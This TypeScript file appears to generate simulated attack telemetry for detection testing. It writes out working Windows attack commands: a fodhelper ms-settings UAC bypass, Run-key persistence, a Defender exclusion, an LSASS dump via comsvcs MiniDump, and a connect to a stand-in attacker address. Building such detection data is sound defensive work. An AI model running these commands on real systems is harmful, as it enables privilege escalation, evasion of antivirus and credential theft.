import { PROGRAMS, STAGE_FOLDER } from '../programs.js';
import { Script } from '../script.js';
import type { Step } from '../step.js';
import { ATTACKER, IMPLANT } from './attacker.js';

const HANDLER = 'HKU\\{user}_Classes\\ms-settings\\Shell\\Open\\command';

const wks = new Script('WKS-17');

/** What the attack does on the workstation: full rights, a way back in, the passwords in memory. */
export const rights: readonly Step[] = [
  // Full rights: a handler of the user's own for a class that fodhelper opens.
  wks.start(
    '09:05:08.920',
    'u1',
    'implant',
    'reg',
    `reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d "rundll32.exe ${IMPLANT},Start" /f`,
    { lives: 0.1 },
  ),
  wks.registry('09:05:08.961', 'u1', 'create-key', HANDLER),
  wks.registry(
    '09:05:08.962',
    'u1',
    'set',
    `${HANDLER}\\(Default)`,
    `rundll32.exe ${IMPLANT},Start`,
    'uac_bypass_handler_set',
  ),
  wks.start(
    '09:05:10.204',
    'u2',
    'implant',
    'reg',
    'reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /f',
    { lives: 0.1 },
  ),
  wks.registry(
    '09:05:10.240',
    'u2',
    'set',
    `${HANDLER}\\DelegateExecute`,
    '(Empty)',
    'uac_bypass_handler_set',
  ),
  wks.start('09:05:12.417', 'fod', 'implant', 'fodhelper', '"C:\\Windows\\system32\\fodhelper.exe" ', {
    as: 'kellerElevated',
    lives: 2.3,
  }),
  wks.start(
    '09:05:13.088',
    'high',
    'fod',
    'rundll32',
    `"${PROGRAMS.rundll32.path}" ${IMPLANT},Start`,
    {},
    'elevated_program_started_shell',
    'rundll32_library_in_user_folder',
  ),
  wks.connect('09:05:14.902', 'high', ATTACKER.address, 443),
  wks.start(
    '09:05:20.655',
    'u3',
    'implant',
    'reg',
    'reg.exe delete HKCU\\Software\\Classes\\ms-settings /f',
    { lives: 0.1 },
  ),
  wks.registry('09:05:20.690', 'u3', 'delete-key', HANDLER),

  // Staying, and out of sight.
  wks.start(
    '09:06:41.133',
    'p1',
    'high',
    'reg',
    `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v SyncSvc /t REG_SZ /d "rundll32.exe ${IMPLANT},Start" /f`,
    { lives: 0.1 },
    'autostart_set_by_command',
  ),
  wks.registry(
    '09:06:41.170',
    'p1',
    'set',
    'HKU\\{user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncSvc',
    `rundll32.exe ${IMPLANT},Start`,
    'run_key_set_by_script',
  ),
  wks.start(
    '09:07:02.508',
    'p2',
    'high',
    'powershell',
    `powershell.exe Add-MpPreference -ExclusionPath ${STAGE_FOLDER}`,
    { lives: 3.7 },
    'loader_started_shell',
    'defender_disabled_by_command',
  ),
  wks.registry(
    '09:07:05.730',
    'defender',
    'set',
    `HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\${STAGE_FOLDER}`,
    'DWORD (0x00000000)',
  ),

  // The passwords in the memory of LSASS.
  wks.start(
    '09:08:33.905',
    'lsassdump',
    'high',
    'rundll32',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 728 ${STAGE_FOLDER}\\s.dmp full`,
    { lives: 4.1 },
    'lsass_dump_through_comsvcs',
  ),
  wks.openProcess('09:08:34.011', 'lsassdump', 'lsass', 0x1fffff),
  wks.file('09:08:34.017', 'lsassdump', 'create', `${STAGE_FOLDER}\\s.dmp`, 'lsass_dump_file_created'),
  wks.file('09:09:20.380', 'high', 'delete', `${STAGE_FOLDER}\\s.dmp`),
];
